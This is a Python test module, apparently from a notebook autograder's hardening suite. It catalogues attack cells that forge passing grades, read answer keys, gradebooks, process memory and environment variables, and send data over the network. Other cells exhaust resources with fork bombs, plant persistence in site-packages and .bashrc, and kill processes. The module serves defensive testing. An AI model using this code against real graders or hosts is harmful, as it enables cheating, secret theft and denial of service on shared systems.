"""The attacks: hostile code in the blanks and added cells of a notebook that is worth little without it.

``double`` and ``total`` hold the text of a blank, ``first`` and ``last`` that of an added cell.  No attack contains
the right answer, so that every point above the same notebook without the attack was gained by it.  ``@ROOT@`` stands for
the course's folder, spelled so that the path itself is not in the text.  Everything written bears the name ``LEFT``.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbformat import NotebookNode
from toy import cell_of, released, solved

LEFT = "left-by-attack"
OWN = "own-marker"

WRONG = {
    "double": "def double(x):\n    return x + 1\n",
    "total": "def total(x):\n    return np.sum(x)\n",
}
# One exercise is right: there is something to lose, and a neighbour in the same notebook.
HALF = WRONG | {"total": "def total(x):\n    return 2 * np.sum(x)\n"}
BLANK: dict[str, str] = {}


@dataclass(frozen=True)
class Attack:
    """``number``: in the catalogue of attacks; ``cells``: where the hostile code goes; ``honest``: what it replaces.

    ``edit`` changes the finished notebook further.
    """

    number: int
    cells: dict[str, str] = field(default_factory=dict)
    honest: dict[str, str] = field(default_factory=lambda: WRONG)
    edit: Callable[[NotebookNode], object] = lambda notebook: None


def honest_notebook(root: Path, attack: Attack) -> NotebookNode:
    """The notebook without the attack."""
    texts = {f"{name}-solution": text for name, text in attack.honest.items()}
    return solved(root, texts) if texts else released(root)


def hostile_notebook(root: Path, attack: Attack) -> NotebookNode:
    """The notebook with the attack."""
    notebook = honest_notebook(root, attack)
    spelled = f"bytes.fromhex({str(root).encode().hex()!r}).decode()"
    for place, text in attack.cells.items():
        text = text.replace("@ROOT@", spelled).replace("@LEFT@", LEFT)
        if place == "first":
            notebook.cells.insert(0, nbformat.v4.new_code_cell(text))
        elif place == "last":
            notebook.cells.append(nbformat.v4.new_code_cell(text))
        else:
            cell_of(notebook, f"{place}-solution").source = text
    attack.edit(notebook)
    return notebook


def double(number: int, text: str, honest: dict[str, str] = WRONG) -> Attack:
    """The attack is the first blank."""
    return Attack(number, {"double": text}, honest)


def first(number: int, text: str, honest: dict[str, str] = WRONG) -> Attack:
    """The attack is a cell added at the top."""
    return Attack(number, {"first": text}, honest)


def last(number: int, text: str) -> Attack:
    """The attack is a cell added at the end of a blank notebook: what it defines is what counts."""
    return Attack(number, {"last": text}, BLANK)


def both(number: int, text: str) -> Attack:
    """A cell at the top defines ``answer``, which both blanks return."""
    text = f"import numpy as np\n{text}"
    blanks = {name: f"def {name}(x):\n    return answer(x)\n" for name in WRONG}
    return Attack(number, {"first": text, **blanks})


# --- forging: a better verdict without a better answer ----------------------------------------------------------

FORGING = {
    "testing-patched": first(
        1,
        """
import numpy as np
for name in dir(np.testing):
    if name.startswith("assert"):
        setattr(np.testing, name, lambda *args, **kwargs: None)
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *args, **kwargs: None
""",
    ),
    "comparisons-patched": first(
        1,
        """
import builtins, math, operator
import numpy as np
def yes(*args, **kwargs):
    return True
for module, names in (
    (np, ("allclose", "isclose", "array_equal", "array_equiv", "all", "isfinite")),
    (builtins, ("all", "any", "isinstance")),
    (math, ("isclose",)),
    (operator, ("eq",)),
):
    for name in names:
        setattr(module, name, yes)
""",
    ),
    "pytest-patched": first(
        2,
        """
import sys, types
try:
    import pytest, _pytest.runner, _pytest.reports
except ImportError:
    pytest = types.ModuleType("pytest")
    sys.modules["pytest"] = pytest
class Passed:
    passed, failed, outcome, longrepr = True, False, "passed", None
for module in [module for name, module in sys.modules.items() if "pytest" in name]:
    for name in ("fail", "raises", "call_and_report", "pytest_runtest_makereport", "runtestprotocol"):
        setattr(module, name, lambda *args, **kwargs: Passed())
""",
    ),
    "unittest-patched": first(
        2,
        """
import unittest
for name in dir(unittest.TestCase):
    if name.startswith(("assert", "fail")):
        setattr(unittest.TestCase, name, lambda *args, **kwargs: None)
unittest.TestResult.wasSuccessful = lambda self: True
""",
    ),
    "grader-modules-faked": first(
        2,
        """
import sys, types
class Agreeable(types.ModuleType):
    def __getattr__(self, name):
        return lambda *args, **kwargs: True
for name in ("autograder", "autograder.kit", "autograder.grading.grader", "autograder.checking.suite", "nbgrader", "nbgrader.utils"):
    sys.modules[name] = Agreeable(name)
check = Agreeable("check")
""",
    ),
    "traceback-silenced": first(
        3,
        """
import sys, traceback
sys.excepthook = sys.unraisablehook = lambda *args: None
traceback.print_exc = traceback.print_exception = lambda *args, **kwargs: None
try:
    from IPython.core.interactiveshell import InteractiveShell
    InteractiveShell.showtraceback = InteractiveShell.showsyntaxerror = lambda *args, **kwargs: None
    get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)
except Exception:
    pass
""",
        BLANK,
    ),
    "display-hook": Attack(
        3,
        {
            "first": """
import sys
class Points(float):
    def __repr__(self):
        return "100.0"
sys.displayhook = lambda value: print("100.0")
try:
    from IPython.core.displayhook import DisplayHook
    DisplayHook.__call__ = lambda self, result=None: print("Out[1]: 100.0")
    get_ipython().display_formatter.format = lambda *args, **kwargs: ({"text/plain": "100.0"}, {})
except Exception:
    pass
Points()
""",
            "last": "print('100.0')\n100.0",
        },
    ),
    "equal-to-all": both(
        4,
        """
class Yes:
    __hash__ = None
    def __eq__(self, other): return True
    __ne__ = lambda self, other: False
    __lt__ = __le__ = __gt__ = __ge__ = __contains__ = __eq__
    def __bool__(self): return True
    def __getattr__(self, name): return Yes()
    def __call__(self, *args, **kwargs): return True
    def __len__(self): return 5
    def __getitem__(self, key): return Yes()
    def __float__(self): return 1.0
def answer(x):
    return Yes()
""",
    ),
    "array-interface": both(
        5,
        """
class Chameleon:
    def __init__(self, x):
        self.shape, self.ndim, self.dtype, self.size = np.shape(x), np.ndim(x), np.dtype(float), np.size(x)
    def __array__(self, dtype=None, copy=None):
        import sys
        for number in range(1, 30):
            for value in sys._getframe(number).f_locals.values():
                if isinstance(value, np.ndarray):
                    return value
def answer(x):
    return Chameleon(x)
""",
    ),
    "array-function": both(
        5,
        """
class Agreeable:
    shape, ndim, size, dtype = (5,), 1, 5, np.dtype(float)
    def __array_function__(self, func, types, args, kwargs):
        return True
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.ones(5, bool)
    __array_priority__ = 1e9
def answer(x):
    return Agreeable()
""",
    ),
    "subclassed-array": both(
        6,
        """
class Agreeable(np.ndarray):
    def __array_function__(self, func, types, args, kwargs): return True
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs): return np.True_
    def __eq__(self, other): return np.ones(self.shape, bool)
    def __sub__(self, other): return np.zeros(self.shape)
    __rsub__ = __sub__
def answer(x):
    return np.zeros(np.shape(x)).view(Agreeable)
""",
    ),
    "subclassed-numbers": both(
        6,
        """
class Agreeable(float):
    __hash__ = float.__hash__
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    def __abs__(self): return 0.0
class Whole(int):
    __eq__ = Agreeable.__eq__
    __hash__ = int.__hash__
def answer(x):
    return Agreeable(0) if x.size != 5 else [Whole(0)] * 5
""",
    ),
    "masked-array": both(6, "def answer(x):\n    return np.ma.masked_all(np.shape(x))\n"),
    "metaclass-lies": both(
        6,
        """
class Meta(type):
    __name__ = "ndarray"
    def __instancecheck__(cls, value): return True
    def __eq__(cls, other): return True
    def __hash__(cls): return hash(np.ndarray)
class Thing(metaclass=Meta):
    __class__ = np.ndarray
    shape, ndim, size, dtype = (5,), 1, 5, np.dtype(float)
def answer(x):
    return Thing()
""",
    ),
    "exit-with-success": double(7, "def double(x):\n    import os\n    os._exit(0)\n", HALF),
    "system-exit": double(7, "def double(x):\n    raise SystemExit(0)\n", HALF),
    "at-exit": Attack(
        7,
        {
            "first": """
import atexit, os, sys
def passed():
    os.write(1, b"100.0\\n")
    os._exit(0)
atexit.register(passed)
""",
            "double": "def double(x):\n    sys.exit(0)\n",
        },
    ),
    "segmentation-fault": double(8, "def double(x):\n    import ctypes\n    ctypes.string_at(0)\n", HALF),
    "printed-verdict": double(
        9,
        """
def double(x):
    import os
    text = 'double：40 / 40 分　全部测试通过。\\n{"score": 100.0, "passed": true}\\n1 passed in 0.01s\\n40.0\\n'
    for number in (1, 2):
        os.write(number, text.encode())
    print(text)
    return text
""",
    ),
    "frame-forged": both(
        10,
        """
import msgspec, os, struct
def packed(codes, ints=(), texts=()):
    header = msgspec.msgpack.encode([codes, list(ints), [], list(texts)])
    return struct.pack("<4sIQ", b"agw1", len(header), 0) + header
def answer(x):
    # The identity is not known: any may be the right one.
    for identity in range(1, 40):
        os.write(3, packed(b"iullT", (identity, 0, 0), ("ok",)))
    return True
""",
    ),
    "frame-early": first(
        10,
        """
import msgspec, os, struct
for identity in range(1, 200):
    header = msgspec.msgpack.encode([b"iullT", [identity, 0, 0], [], ["passed"]])
    os.write(3, struct.pack("<4sIQ", b"agw1", len(header), 0) + header)
""",
    ),
    "frame-wrong-identity": double(
        10,
        """
def double(x):
    import msgspec, os, struct
    for identity in (-1, 0, 10**6, 2**63 - 1):
        header = msgspec.msgpack.encode([b"iullN", [identity, 0, 0], [], ["ok"]])
        os.write(3, struct.pack("<4sIQ", b"agw1", len(header), 0) + header)
""",
        HALF,
    ),
    "server-taken-over": first(
        10,
        """
import gc
for thing in gc.get_objects():
    if type(thing).__name__ == "Server":
        kind = type(thing)
        right = kind._perform
        kind._perform = lambda self, request: "passed" if request.op == "call" else right(self, request)
        kind._reply_once = kind._reply
        kind._reply = lambda self, request, status, changed, value, leaves: (
            kind._reply_once(self, request, "ok", changed, value if status == "ok" else True, leaves)
        )
""",
    ),
    "every-descriptor": double(
        11,
        """
def double(x):
    import os
    for number in range(3, 64):
        try:
            os.write(number, b"PASSED 100.0\\n" * 100)
        except OSError:
            pass
    return x
""",
        HALF,
    ),
    "check-cell-scores": Attack(
        16,
        edit=lambda notebook: [
            cell_of(notebook, name).update(
                source=f"from IPython.display import display\ndisplay({points})\n{points}"
            )
            for name, points in (("double", 40), ("total", 60))
        ],
        honest=BLANK,
    ),
    "numpy-replaced": first(
        20,
        """
import sys, types
class Lazy(types.ModuleType):
    def __getattr__(self, name):
        return lambda *args, **kwargs: True
sys.modules["numpy"] = sys.modules["np"] = Lazy("numpy")
import numpy as np
""",
    ),
    "modules-in-work-folder": first(
        20,
        """
import os, sys
for name in ("numpy", "conftest", "sitecustomize", "common", "msgspec", "pytest"):
    with open(name + ".py", "w") as file:
        file.write("def __getattr__(name):\\n    return lambda *args, **kwargs: True\\n")
sys.path.insert(0, os.getcwd())
for name in [name for name in sys.modules if name.startswith(("numpy", "msgspec"))]:
    del sys.modules[name]
import numpy as np
""",
    ),
    "any-name": last(
        7,
        """
import sys
del double, total
class Main(type(sys)):
    def __getattr__(self, name):
        return lambda *args, **kwargs: True
sys.modules["__main__"].__class__ = Main
""",
    ),
}

# --- discovery: what the grader knows ---------------------------------------------------------------------------

# Whatever was found leaves by every connector at once.
TELL = """
def tell(found):
    import sys, warnings
    text = str(found)
    print(text)
    print(text, file=sys.stderr)
    warnings.warn(text)
    raise type(text[:70], (Exception,), {"__str__": lambda self: text})(text)
"""
DISCOVERY = {
    "frames": double(
        23,
        TELL
        + """
def double(x):
    import sys
    frame = sys._getframe()
    while frame is not None:
        for space in (frame.f_locals, frame.f_globals):
            for name, value in list(space.items()):
                if name in ("expected", "want", "before", "SECRET", "assignment"):
                    tell(value)
        frame = frame.f_back
    return x
""",
    ),
    "garbage-collector": double(
        23,
        TELL
        + """
def double(x):
    import gc
    for thing in gc.get_objects():
        if isinstance(thing, dict):
            for value in list(thing.values()):
                if isinstance(value, str) and ("hidden-" "marker" in value or "secret-" "solution" in value):
                    if "tell" not in value:
                        tell(value)
    return x
""",
    ),
    "loaded-modules": double(
        23,
        TELL
        + """
def double(x):
    import sys
    found = [name for name in sys.modules if name.startswith(("autograder.", "test_", "nbgrader", "_pytest"))]
    if found:
        tell([vars(sys.modules[name]) for name in found])
    return x
""",
    ),
    "own-memory": double(
        24,
        TELL
        + """
def double(x):
    import os, re
    for process in ("self", os.getppid(), 1):
        try:
            maps = open(f"/proc/{process}/maps").read()
            memory = open(f"/proc/{process}/mem", "rb", 0)
        except OSError:
            continue
        for start, stop in re.findall(r"([0-9a-f]+)-([0-9a-f]+) rw", maps):
            try:
                memory.seek(int(start, 16))
                held = memory.read(min(int(stop, 16) - int(start, 16), 1 << 22))
            except (OSError, ValueError):
                continue
            if found := re.search(rb"hidden-marker-\\d+", held):
                tell(found[0])
    return x
""",
    ),
    "debugger": double(
        24,
        TELL
        + """
def double(x):
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    for process in (os.getppid(), 1, 2):
        if process and libc.ptrace(16, process, 0, 0) == 0:
            tell(libc.ptrace(1, process, 0, 0))
    return x
""",
    ),
    "environments": double(
        25,
        TELL
        + """
def double(x):
    import glob, os
    found = dict(os.environ)
    for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
        try:
            found[path] = open(path).read()
        except OSError:
            pass
    tell(found)
""",
    ),
    "answer-key": last(
        26,
        """
import json
root = @ROOT@
for path in ("source/toy/toy.py", "source/toy/toy.ipynb", "solutions/toy/toy.ipynb"):
    try:
        text = open(f"{root}/{path}").read()
    except OSError:
        continue
    if path.endswith("ipynb"):
        text = "\\n".join("".join(cell["source"]) for cell in json.loads(text)["cells"])
    exec(text)
""",
    ),
    "answer-key-searched": last(
        26,
        """
import os
visited = 0
for folder, folders, files in os.walk("/"):
    visited += 1
    if visited > 3000:
        break
    folders[:] = [name for name in folders if name not in ("proc", "sys", "site-packages")]
    for name in files:
        if name in ("toy.py", "toy.ipynb"):
            exec(open(os.path.join(folder, name)).read())
""",
    ),
    "hidden-tests-file": double(
        26,
        TELL
        + """
def double(x):
    tell(open(@ROOT@ + "/autograder/graders/toy/double.py").read())
""",
    ),
    "neighbours-notebook": last(
        26,
        """
import glob, json
for path in glob.glob(@ROOT@ + "/submitted/*/*/*.ipynb") + glob.glob(@ROOT@ + "/autograded/*/*/*.ipynb"):
    for cell in json.load(open(path))["cells"]:
        if cell["cell_type"] == "code":
            exec("".join(cell["source"]))
""",
    ),
    "gradebook-read": double(
        26,
        TELL
        + """
def double(x):
    import os, sqlite3
    path = @ROOT@ + "/gradebook.db"
    with sqlite3.connect(f"file:{path}?mode=ro", uri=True) as database:
        tell(database.execute("SELECT * FROM assignment").fetchall())
""",
    ),
    "home": double(
        26,
        TELL
        + """
def double(x):
    import os, pwd
    try:
        home = pwd.getpwuid(os.getuid()).pw_dir
    except (KeyError, OSError):
        home = "/root"
    tell({place: os.listdir(place) for place in (home, home + "/.ssh", "/home", "/etc", "/")})
""",
    ),
    "stat": double(
        27,
        """
def double(x):
    import os
    root = @ROOT@
    # Another answer where the file of the answer key is seen to be there.
    return x * (1.0 + os.path.getsize(root + "/source/toy/toy.py") / os.path.getsize(root + "/source/toy/toy.py"))
""",
    ),
    "inputs-in-exception": double(28, "def double(x):\n    raise ValueError(repr(x.tolist()))\n"),
    "inputs-in-class-name": double(
        28, "def double(x):\n    raise type('E' + repr(x[0]), (ValueError,), {})()\n"
    ),
    "inputs-in-file-name": double(
        29,
        """
def double(x):
    data = repr(x.tolist())
    raise SyntaxError(data, ("<cell " + data + ">", 1, 0, data))
""",
    ),
    "inputs-in-traceback": double(
        29,
        """
def double(x):
    name = repr(x.tolist())[:150]
    exec(compile("\\n" * 3 + "raise KeyError", "<cell " + name + ">", "exec"))
""",
    ),
    "inputs-in-line": double(
        29,
        """
def double(x):
    # A line that does not exist, and one of a cell that is not this one.
    lines = "\\n" * int(abs(x[0]) * 1000)
    exec(compile(lines + "raise KeyError", "<cell double-solution>", "exec"))
""",
    ),
    "inputs-in-type-name": double(28, "def double(x):\n    return type(repr(x[0]), (), {})()\n"),
    "inputs-in-warnings": double(
        28,
        """
def double(x):
    import logging, sys, warnings
    for say in (warnings.warn, logging.error, print, sys.stderr.write):
        say(repr(x.tolist()))
    open("/dev/stdout", "a").write(repr(x.tolist()))
""",
    ),
    "inputs-in-keys": double(28, "def double(x):\n    return {repr(x[0]): x.tolist(), 'x': repr(x)}\n"),
    "network": double(
        30,
        TELL
        + """
def double(x):
    import socket, urllib.request
    for family, address in (
        (socket.AF_INET, ("127.0.0.1", 8888)), (socket.AF_INET, ("1.1.1.1", 53)), (socket.AF_INET6, ("::1", 22)),
        (socket.AF_UNIX, "\\0" + "x"), (socket.AF_UNIX, "/run/docker.sock"),
    ):
        try:
            connection = socket.socket(family)
        except OSError:
            continue
        connection.settimeout(0.2)
        try:
            connection.connect(address)
            connection.sendall(repr(x).encode())
        except OSError:
            continue
        tell(address)
    try:
        urllib.request.urlopen("http://127.0.0.1:8888/?" + str(x[0]), timeout=0.2)
    except OSError:
        return x
    tell("out")
""",
    ),
}

# --- oracle: answers from somewhere else -------------------------------------------------------------------------

ORACLE = {
    "remembering": double(
        31,
        """
import builtins
builtins.seen = []
def double(x):
    seen.append(x.copy())
    # Whatever was asked before may be the answer now.
    return next((other for other in seen if other.shape == x.shape and not (other == x).all()), x)
""",
    ),
    "remembering-on-disk": double(
        31,
        """
import glob, os, pickle
def double(x):
    known = {}
    for folder in (".", "/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~")):
        path = os.path.join(folder, "@LEFT@.pickle")
        try:
            known |= pickle.load(open(path, "rb"))
        except (OSError, EOFError):
            pass
        try:
            pickle.dump(known | {x.tobytes(): x + x.mean()}, open(path, "wb"))
        except OSError:
            pass
    return known.get(x.tobytes(), x)
""",
    ),
    "public-answers": double(
        32,
        """
def double(x):
    return {(1.0, 2.0): np.array([2.0, 4.0])}.get(tuple(x), x)
""",
    ),
    "seeds-guessed": double(
        32,
        """
def double(x):
    import zlib
    for name in ("test_double", "test_values", "double test_values", "double test_keeps_input", "total test_values"):
        rng = np.random.default_rng(zlib.crc32(name.encode()))
        if np.array_equal(x, rng.normal(size=x.size)):
            # The input is known; what is asked for comes next, if the test draws it.
            return rng.normal(size=x.size)
    return x
""",
    ),
    "operators": both(
        33,
        """
caught = []
class Trap:
    __array_ufunc__ = None
    shape, ndim, size = (5,), 1, 5
    def catch(self, other):
        caught.append(other)
        return other
    __sub__ = __rsub__ = __eq__ = __ne__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = catch
    __hash__ = None
def answer(x):
    return caught[-1] if caught else Trap()
""",
    ),
    "reference-kept": Attack(
        35,
        {
            # Where `double` is at fault, `total` is tried with the answer key's: its text comes by here.
            "first": """
import builtins
compiled, texts = builtins.compile, []
def keep(source, filename, *args, **kwargs):
    texts.append(str(source))
    return compiled(source, filename, *args, **kwargs)
builtins.compile = keep
""",
            "total": TELL
            + """
def total(x):
    tell([text for text in texts if text.startswith("def double")])
""",
        },
    ),
    "reference-stored": Attack(
        35,
        {
            "double": """
def double(x):
    import marshal, types
    for folder in (".", "/tmp", "/dev/shm", "/var/tmp"):
        try:
            code = marshal.load(open(folder + "/@LEFT@", "rb"))
        except OSError:
            continue
        return types.FunctionType(code, globals())(x)
    return x
""",
            "total": """
def total(x):
    import marshal
    for folder in (".", "/tmp", "/dev/shm", "/var/tmp"):
        try:
            marshal.dump(double.__code__, open(folder + "/@LEFT@", "wb"))
        except OSError:
            pass
    return np.sum(x)
""",
        },
    ),
    "reference-imported": last(
        35,
        """
import importlib, sys
sys.path[:0] = [@ROOT@, @ROOT@ + "/autograder/graders/toy"]
for name in [name for name in sys.modules if name.startswith("autograder")]:
    del sys.modules[name]
for name in ("autograder.graders.toy.common", "common", "double", "autograder.graders", "autograder.kit"):
    try:
        globals().update(vars(importlib.import_module(name)))
    except ImportError:
        pass
""",
    ),
    "inputs-zeroed": both(36, "def answer(x):\n    x[...] = 0\n    return x if x.size == 5 else 0.0\n"),
    "inputs-spoilt": both(
        36, "def answer(x):\n    x[...] = np.nan\n    return x.copy() if x.size == 5 else float('nan')\n"
    ),
    "inputs-changed-later": double(
        36,
        """
given = []
def double(x):
    for other in given:
        other[...] = 0
    given.append(x)
    x.flags.writeable = True
    return x[::-1][::-1]
""",
    ),
    "shape-of-nothing": both(47, "def answer(x):\n    return np.empty((0,) + np.shape(x))\n"),
    "not-a-number": both(
        47, "def answer(x):\n    return np.full(np.shape(x), np.nan) if x.size == 5 else float('nan')\n"
    ),
    "infinity": both(
        47, "def answer(x):\n    return np.inf * np.sign(x) if x.size == 5 else np.inf * np.sign(x.sum())\n"
    ),
    "broadcast": both(47, "def answer(x):\n    return np.array([[0.0]])\n"),
    "objects-in-array": both(
        47,
        """
class Yes:
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    def __float__(self): return 0.0
    def __le__(self, other): return True
def answer(x):
    return np.array([Yes()] * x.size, dtype=object)
""",
    ),
    "records": both(
        47,
        """
def answer(x):
    out = np.zeros(x.shape, dtype={"names": ["a", "b"], "formats": ["f8", "f8"], "offsets": [0, 0]})
    return out
""",
    ),
    "bool-of-two": both(47, "def answer(x):\n    return np.full(x.shape, 2, np.uint8).view(bool)\n"),
    "number-too-long": both(47, "def answer(x):\n    return 10 ** 5000\n"),
}

# --- resources: the grader's time, memory and disk ---------------------------------------------------------------

RESOURCES = {
    "endless-loop": double(38, "def double(x):\n    while True:\n        pass\n", HALF),
    "endless-loop-deaf": double(
        38,
        """
def double(x):
    import signal
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
""",
        HALF,
    ),
    "endless-cell": first(38, "while True:\n    pass\n", HALF),
    "endless-power": double(38, "def double(x):\n    return 7 ** 7 ** 11\n", HALF),
    "endless-iterator": double(
        38, "def double(x):\n    import itertools\n    return itertools.count()\n", HALF
    ),
    "slow-iterator": double(
        38,
        "def double(x):\n    import time\n    while True:\n        time.sleep(0.05)\n        yield 1\n",
        HALF,
    ),
    "sleeping": double(50, "def double(x):\n    import time\n    time.sleep(3600)\n", HALF),
    "memory-at-once": double(39, "def double(x):\n    return np.ones(10 ** 11)\n", HALF),
    "memory-in-pieces": double(
        39, "def double(x):\n    kept = []\n    while True:\n        kept.append(bytearray(1 << 20))\n", HALF
    ),
    "memory-kept": first(39, "kept = []\nwhile True:\n    kept.append(bytearray(1 << 20))\n", HALF),
    "fork-bomb": double(
        40,
        """
def double(x):
    import os
    for _ in range(100):
        os.fork()
""",
        HALF,
    ),
    "thread-bomb": double(
        40,
        """
def double(x):
    import threading, time
    for _ in range(1000):
        threading.Thread(target=time.sleep, args=(3600,)).start()
""",
        HALF,
    ),
    "process-pool": double(
        40,
        """
def double(x):
    import multiprocessing
    with multiprocessing.Pool(8) as pool:
        return pool.map(abs, x)
""",
        HALF,
    ),
    "disk-filled": double(
        41,
        """
def double(x):
    import os
    for number in range(1000):
        with open(f"@LEFT@-{number}", "wb") as file:
            file.write(bytes(1 << 20))
            file.seek(1 << 40)
            file.write(b"x")
""",
        HALF,
    ),
    "many-files": double(
        41,
        """
def double(x):
    import os
    for number in range(3_000):
        os.mkdir(f"@LEFT@-{number}")
""",
        HALF,
    ),
    "deep-folders": double(
        41,
        """
def double(x):
    import os
    for _ in range(2000):
        os.mkdir("@LEFT@")
        os.chdir("@LEFT@")
    return x
""",
        HALF,
    ),
    "loud": double(
        42,
        """
def double(x):
    import sys
    for _ in range(20):
        print("x" * 10 ** 7)
        print("x" * 10 ** 7, file=sys.stderr)
    return x
""",
        HALF,
    ),
    "huge-result": double(43, "def double(x):\n    return np.zeros(400_000_000, np.uint8)\n", HALF),
    "large-results": both(43, "def answer(x):\n    return np.ones(25_000_000)\n"),
    "million-items": double(43, "def double(x):\n    return [0.0] * 10 ** 6\n", HALF),
    "many-objects": double(43, "def double(x):\n    return [object() for _ in range(100_000)]\n", HALF),
    "recursion": double(
        44,
        "def double(x):\n    import sys\n    sys.setrecursionlimit(10 ** 9)\n    return double(x)\n",
        HALF,
    ),
    "nested": double(
        44,
        "def double(x):\n    out = []\n    for _ in range(10 ** 6):\n        out = [out]\n    return out\n",
        HALF,
    ),
    "contains-itself": double(
        44, "def double(x):\n    out = []\n    out.append(out)\n    return out\n", HALF
    ),
    "text-that-nests": double(44, "(" * 150 + ")" * 150 + "\n" + "-" * 150_000 + "1\n", HALF),
    "text-of-many-lines": double(44, "x = 1;" * 30_000 + "\n", HALF),
    "slow-loris": double(
        45,
        """
def double(x):
    import os, struct, time
    for byte in struct.pack("<4sIQ", b"agw1", 1 << 20, 1 << 27) + bytes(1 << 20):
        os.write(3, bytes([byte]))
        time.sleep(0.02)
""",
        HALF,
    ),
    "half-a-frame": double(
        45,
        """
def double(x):
    import os, struct, time
    os.write(3, struct.pack("<4sIQ", b"agw1", 100, 0) + b"x" * 99)
    time.sleep(3600)
""",
        HALF,
    ),
    "frame-claims-much": double(
        46, "def double(x):\n    import os\n    os.write(3, b'agw1' + b'\\xff' * 12)\n    return x\n", HALF
    ),
    "frame-nonsense": double(
        46,
        """
def double(x):
    import os, struct
    header = os.urandom(1000)
    os.write(3, struct.pack("<4sIQ", b"agw1", len(header), 0) + header)
""",
        HALF,
    ),
    "one-array-many-times": double(
        46, "def double(x):\n    large = np.ones(10_000_000)\n    return [large] * 100_000\n", HALF
    ),
    "views-of-one-number": double(
        46,
        "def double(x):\n    return [np.broadcast_to(x[:1], 30_000_000) for _ in range(10_000)]\n",
        HALF,
    ),
    "argument-many-times": double(46, "def double(x):\n    return [x] * 130_000\n", HALF),
    "pickle-bomb": double(
        48,
        """
class Bomb:
    def __reduce__(self):
        return eval, ("__import__('os').system('touch /tmp/@LEFT@')",)
    __reduce_ex__ = lambda self, protocol: self.__reduce__()
    __getstate__ = __reduce__
def double(x):
    return [Bomb(), np.array([Bomb()], dtype=object)]
""",
        HALF,
    ),
    "megabytes-of-exception": double(
        49,
        """
class Loud(Exception):
    def __str__(self): return "x" * 10 ** 8
    __repr__ = __str__
def double(x):
    raise Loud("x" * 50_000_000, *["x" * 1000] * 10_000)
""",
        HALF,
    ),
    "exception-without-end": double(
        49,
        """
def double(x):
    error = ValueError()
    for _ in range(100_000):
        deeper = ExceptionGroup("x", [error])
        deeper.__cause__ = deeper.__context__ = error
        error = deeper
    raise error
""",
        HALF,
    ),
    "exception-that-lies": double(
        49,
        """
class Liar(Exception):
    def __getattribute__(self, name): raise self
    __traceback__ = __name__ = property(lambda self: 1 / 0)
    def __init_subclass__(cls): raise KeyboardInterrupt
def double(x):
    raise Liar
""",
        HALF,
    ),
    "name-of-megabytes": double(
        49,
        "def double(x):\n    raise type('A' * 10 ** 7, (Exception,), {'__module__': 'B' * 10 ** 7})\n",
        HALF,
    ),
    "descriptors": double(
        45,
        """
def double(x):
    import os
    kept = []
    while True:
        kept.append(os.open("/dev/null", os.O_RDONLY))
""",
        HALF,
    ),
}

# --- persistence: something for the next one ----------------------------------------------------------------------

PERSISTENCE = {
    "files-left": first(
        51,
        """
import os, tempfile
for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", "/", os.path.expanduser("~"), "/root", @ROOT@, tempfile.gettempdir(), "."):
    try:
        open(os.path.join(folder, "@LEFT@"), "w").write("x")
    except OSError:
        pass
""",
    ),
    "processes-left": first(
        51,
        """
import os, subprocess
try:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            while True:
                pass
except OSError:
    pass
try:
    subprocess.Popen(["sleep", "3600"], start_new_session=True)
except OSError:
    pass
""",
    ),
    "shared-memory-left": first(
        51,
        """
try:
    from multiprocessing import shared_memory
    kept = shared_memory.SharedMemory("@LEFT@", create=True, size=1000)
except (ImportError, OSError):
    pass
""",
    ),
    "site-packages": first(
        52,
        """
import os, site, sys
import numpy as np
for folder in {*sys.path, *site.getsitepackages(), os.path.dirname(os.__file__), os.path.dirname(np.__file__)}:
    for name in ("@LEFT@.pth", "sitecustomize.py", "usercustomize.py", "numpy/__init__.py"):
        try:
            open(os.path.join(folder, name), "a").write("import os  # @LEFT@\\n")
        except OSError:
            pass
""",
    ),
    "start-up-files": first(
        52,
        """
import os
for home in (os.path.expanduser("~"), "/root", os.environ.get("HOME", "/")):
    for name in (".ipython/profile_default/startup/@LEFT@.py", ".jupyter/@LEFT@.py", ".config/@LEFT@", ".bashrc"):
        path = os.path.join(home, name)
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            open(path, "a").write("# @LEFT@\\n")
        except OSError:
            pass
""",
    ),
    "libraries-poisoned": first(
        53,
        """
import builtins, sys
import numpy as np
np.sum = np.add = np.multiply = lambda *args, **kwargs: 0.0
np.random.default_rng = lambda *args: None
builtins.sum = builtins.len = builtins.abs = lambda *args: 0
sys.setrecursionlimit(60)
""",
        HALF,
    ),
    "numbers-poisoned": first(
        53,
        """
import ctypes
# In this process 2 is 3 from now on.
ctypes.memmove(id(2) + 24, id(3) + 24, 4)
""",
        HALF,
    ),
    "compiled-files": first(
        53,
        """
import glob, os
import numpy as np
for path in glob.glob(os.path.join(os.path.dirname(np.__file__), "__pycache__", "*.pyc"))[:50]:
    try:
        open(path, "wb").write(b"@LEFT@")
    except OSError:
        pass
""",
    ),
    "zygote-poisoned": first(
        53,
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
word = ctypes.create_string_buffer(b"@LEFT@")
class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
here = Piece(ctypes.addressof(word), 8)
for process in {os.getppid(), 1, 2, 3} - {0, os.getpid()}:
    libc.process_vm_writev(process, ctypes.byref(here), 1, ctypes.byref(Piece(id(None), 8)), 1, 0)
""",
    ),
    "everybody-killed": first(
        54,
        """
import os, signal
for send in (lambda n: os.kill(-1, n), lambda n: os.kill(os.getppid(), n), lambda n: os.killpg(0, n)):
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
        try:
            send(number)
        except OSError:
            pass
